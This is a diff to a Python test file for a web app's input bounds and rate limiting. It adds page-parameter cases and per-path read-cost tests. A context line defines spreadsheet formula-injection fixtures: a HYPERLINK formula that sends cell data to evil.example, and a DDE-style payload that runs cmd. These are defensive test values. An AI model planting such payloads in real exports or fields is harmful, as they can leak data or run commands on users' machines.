@@ -26,6 +26,7 @@ from communique.config import Settings  # noqa: E402
 from communique.errors import ConfigError  # noqa: E402
 from communique.store import Store  # noqa: E402
 from communique.web import create_app  # noqa: E402
+from communique.web.security import read_cost  # noqa: E402
 
 HOSTILE = {"title": '=HYPERLINK("http://evil.example/?"&A1,"click")', "source": "@SUM(1+1)*cmd|' /C calc'!A0",
            "url": "+http://evil.example", "story_id": "-2+3"}
@@ -103,6 +104,8 @@ BAD_REQUESTS = [
     ("/api/records/" + "x" * 3000, 422),
     ("/api/articles/" + "9" * 40, 404),
     ("/api/actors/" + "9" * 40, 404),
+    ("/api/actors?page=" + HUGE, 422),
+    ("/api/actors?page=0", 422),
     # cursors
     *[(f"/api/{r}?cursor={c}", 422) for r in ("events", "quotes", "articles") for c in CURSORS],
 ]
@@ -210,16 +213,24 @@ def test_web_bounds_anonymous_reads_are_rate_limited(db):
     settings = Settings(api_key="k", rate_limit=1000, rate_burst=1000, anonymous_rate_limit=0.01,
                         anonymous_rate_burst=10, heavy_read_cost=4)
     with TestClient(create_app(db, settings)) as c:
-        assert [c.get("/api/stats").status_code for _ in range(6)] == [200] * 6
+        assert [c.get("/api/quotes").status_code for _ in range(6)] == [200] * 6
         assert [c.get("/api/dyads/RUS/UKR").status_code for _ in range(2)] == [200, 429]
-        r = c.get("/api/stats")
-        assert [c.get("/api/stats").status_code for _ in range(3)] == [429] * 3
+        r = c.get("/api/quotes")
+        assert [c.get("/api/articles").status_code for _ in range(3)] == [429] * 3
         body = shape(c.get("/api/events"), 429)
         assert "anonymous_rate_limit" in body["error"]["message"]
         assert int(r.headers["retry-after"]) >= 1
-        assert c.get("/static/style.css").status_code in (200, 404)  # static files cost nothing
+        assert c.get("/static/style.css").status_code == 200  # static files cost nothing
         # a client with a key is not held by the anonymous bucket
         assert [c.get("/api/dyads/RUS/UKR", headers={"X-API-Key": "k"}).status_code for _ in range(5)] == [200] * 5
+
+
+@pytest.mark.parametrize("path,cost", [("/static/style.css", 0), ("/api/events", 1), ("/articles", 1),
+                                       ("/api/records/a:e1", 1), ("/", 7), ("/api/stats", 7),
+                                       ("/api/dyads/RUS/UKR", 7), ("/dyads/RUS/UKR", 7), ("/api/export", 7),
+                                       ("/api/charts/quads", 7), ("/alerts", 7), ("/map", 7)])
+def test_web_bounds_read_cost(path, cost):
+    assert read_cost(path, Settings(heavy_read_cost=7)) == cost
 
 
 def test_web_bounds_rate_limit_zero_turns_read_limits_off(db):
